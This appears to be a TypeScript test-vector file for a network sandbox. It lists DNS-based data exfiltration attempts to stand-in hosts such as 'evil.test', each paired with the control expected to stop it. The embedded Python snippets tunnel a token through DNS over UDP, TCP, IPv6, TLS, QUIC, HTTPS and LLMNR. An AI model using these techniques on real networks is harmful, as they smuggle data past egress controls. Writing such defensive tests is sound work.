/** Ways round by names: the resolver as a channel, and resolvers that nobody judges. */
import type { Vector } from "../vector.ts";

const QUERY = `
def query(name, kind=1):
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    return os.urandom(2) + struct.pack(">HHHHH", 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", kind, 1)

def ask_udp(server, name, kind=1, port=53):
    sock = datagram(server)
    step("sendto")
    sock.sendto(query(name, kind), (server, port))
    step("answer")
    answer = sock.recv(4096)
    code = answer[3] & 15
    if code:
        raise Refused({3: "NXDOMAIN", 5: "REFUSED"}.get(code, "rcode " + str(code)))
    return answer
`;

export const NAMES: readonly Vector[] = [
  {
    name: "dns-udp",
    what: "asks a foreign DNS server over UDP for a name that carries the data",
    attack: `${QUERY}
ask_udp(T["sink4"], T["token"] + ".evil.test")`,
    closedBy: ["names.refused"],
  },
  {
    name: "dns-tcp",
    what: "asks a foreign DNS server over TCP",
    attack: `${QUERY}
message = query(T["token"] + ".evil.test")
sock = stream(T["sink4"])
step("connect")
sock.connect((T["sink4"], 53))
pour(sock, struct.pack(">H", len(message)) + message)`,
    closedBy: ["names.refused"],
  },
  {
    name: "dns-ipv6",
    what: "asks a foreign DNS server over IPv6",
    attack: `${QUERY}
ask_udp(T["sink6"], T["token"] + ".evil.test")`,
    closedBy: ["names.refused"],
  },
  {
    name: "dns-tunnel",
    what: "asks the resolver that it was given for names that carry the data",
    attack: `${QUERY}
for kind in (1, 28, 16, 5, 65, 10):
    ask_udp(T["sink4"], T["token"] + ".tunnel.evil.test", kind)`,
    closedBy: ["names.refused"],
  },
  {
    name: "dns-reverse",
    what: "asks for the reverse name of an address, with the data in a label",
    attack: `${QUERY}
ask_udp(T["sink4"], T["token"] + ".2.0.18.198.in-addr.arpa", 12)`,
    closedBy: ["answered-here", "names.refused"],
  },
  {
    name: "dns-raw-bytes",
    what: "sends bytes to port 53 that are no DNS message",
    attack: `
sock = datagram(T["sink4"])
step("sendto")
sock.sendto(TOKEN, (T["sink4"], 53))
step("answer")
code = sock.recv(100)[3] & 15
raise Refused({1: "FORMERR", 4: "NOTIMP"}.get(code, "rcode " + str(code)))`,
    closedBy: ["answered-here", "dropped"],
  },
  {
    name: "dns-allowed-zone",
    what: "asks for names below an allowed wildcard: its owner's servers hear them",
    attack: `${QUERY}
ask_udp(T["sink4"], T["token"] + ".allowed.test")`,
    closedBy: [],
    stated: [
      {
        limit: "names below an allowed wildcard are asked upstream",
        remedy: "list whole names instead of wildcards, where their owners are not trusted with data",
      },
    ],
  },
  {
    name: "dns-over-tls",
    what: "speaks DNS over TLS to port 853",
    attack: `dial(T["sink4"], 853, b"\\x16\\x03\\x01" + TOKEN)`,
    closedBy: ["sealed-names"],
  },
  {
    name: "dns-over-quic",
    what: "speaks DNS over QUIC to port 853",
    attack: `
sock = datagram(T["sink4"])
step("sendto")
sock.sendto(b"\\xc3" + TOKEN.ljust(1200, b"\\0"), (T["sink4"], 853))`,
    closedBy: ["sealed-names"],
  },
  {
    name: "dns-over-https",
    what: "looks up a known DNS-over-HTTPS host and asks it",
    attack: `${QUERY}
answer = ask_udp(T["sink4"], "dns.google")
dial(socket.inet_ntoa(answer[-4:]), 443, b"GET /dns-query?dns=" + TOKEN + b" HTTP/1.1\\r\\n\\r\\n")`,
    closedBy: ["names.refused"],
  },
  {
    name: "multicast-names",
    what: "asks the neighbours by LLMNR",
    attack: `${QUERY}
sock = datagram(T["sink4"])
sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(T["own4"]))
step("sendto")
sock.sendto(query(T["token"]), ("224.0.0.252", 5355))`,
    closedBy: ["unlisted"],
  },
  {
    name: "ech-key",
    what: "asks for the key that would hide the name in a TLS handshake",
    attack: `${QUERY}
answer = ask_udp(T["sink4"], "www.allowed.test", 65)
print(answer.decode("latin1"))
if b"ech" not in answer:
    raise Refused("stripped")`,
    judge: "answer",
    closedBy: ["stripped"],
  },
];
